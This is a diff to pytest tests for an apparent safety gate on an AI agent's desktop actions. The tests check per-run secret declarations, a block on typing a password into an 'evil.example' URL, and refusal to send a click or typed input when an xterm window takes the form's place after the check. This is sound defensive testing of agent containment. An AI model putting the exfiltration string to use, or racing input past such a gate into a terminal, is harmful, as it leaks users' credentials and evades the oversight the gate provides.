@@ -140,12 +140,14 @@ def test_the_gate_fails_closed_and_keeps_secrets_to_their_place():
             with pytest.raises(PolicyError, match="cannot tell"):
                 gate.check(act(**a), probe, Policy())
     assert gate.check(act(action="wait", time=1), Blind(), Policy())  # nothing receives a wait
-    gate.declare_secret("PW")
+    declares = Policy(secrets={"PW"})
     with pytest.raises(PolicyError, match="alone"):
-        gate.check(act(action="type", text="https://evil.example/?q={secret:PW}"), None, Policy())
+        gate.check(act(action="type", text="https://evil.example/?q={secret:PW}"), None, declares)
     with pytest.raises(PolicyError, match="not one the task declares"):
-        gate.check(act(action="type", text="{secret:AWS_KEY}"), None, Policy())
-    assert gate.check(act(action="type", text="{secret:PW}"), None, Policy())
+        gate.check(act(action="type", text="{secret:AWS_KEY}"), None, declares)
+    assert gate.check(act(action="type", text="{secret:PW}"), None, declares)
+    with pytest.raises(PolicyError, match="not one the task declares"):  # another run's policy: not its secret
+        gate.check(act(action="type", text="{secret:PW}"), None, Policy())
 
     class Form(Blind):
         field = {"role": "text", "name": "Name", "label": "Name"}
@@ -244,3 +246,34 @@ def test_the_model_loop_cannot_paste_into_a_terminal_beside_the_form(tmp_path):
     steps = [json.loads(line) for line in (tmp_path / "out" / "steps.jsonl").read_text().splitlines()]
     assert steps[0]["error"] is None and steps[1]["action"] is None
     assert "middle_click" in steps[1]["error"] and "terminal or shell" in steps[1]["error"], steps[1]
+
+
+@pytest.mark.slow
+def test_a_window_that_takes_the_place_between_the_check_and_the_input_gets_nothing(screen):
+    """The gate judged the form; before the input goes, an xterm maps over that place. The desktop
+    looks again right before the click (and the typing): another window is there, nothing is sent."""
+    from agent.desktop.x11 import ReceiverChanged
+    from agent.run.executor import execute
+    from sandbox.windows import list_windows
+
+    desktop, spawn = screen
+    spawn([sys.executable, "-m", "sandbox.apps.form", "--out", "/dev/null"], "Registration")
+    form = next(w for w in list_windows(desktop.display) if w.title == "Registration")
+    size = desktop.size()
+    x, y = form.x + 20, form.y + 20
+    click = act(action="left_click", coordinate=[int((x + 0.5) / size[0] * 1000), int((y + 0.5) / size[1] * 1000)])
+    execute(gate.check(click, desktop, Policy()), desktop, size)  # the same window at the input: it goes
+    desktop.move(x, y)
+    # no window manager and nobody set the focus: keys go to the window under the pointer (the form)
+    from Xlib import X, display as xdisplay
+
+    d = xdisplay.Display(desktop.display)  # (the Tk click set an explicit focus: give it back to the pointer)
+    d.set_input_focus(X.PointerRoot, X.RevertToPointerRoot, X.CurrentTime)
+    d.sync()
+    d.close()
+    checked_click, typing = gate.check(click, desktop, Policy()), gate.check(act(action="type", text="ls"), desktop, Policy())
+    spawn(["xterm", "-T", "term", "-geometry", "200x80+0+0"], "term")  # over everything, under the pointer
+    with pytest.raises(ReceiverChanged, match="click changed after the gate checked it"):
+        execute(checked_click, desktop, size)
+    with pytest.raises(ReceiverChanged, match="typing changed after the gate checked it"):
+        execute(typing, desktop, size)
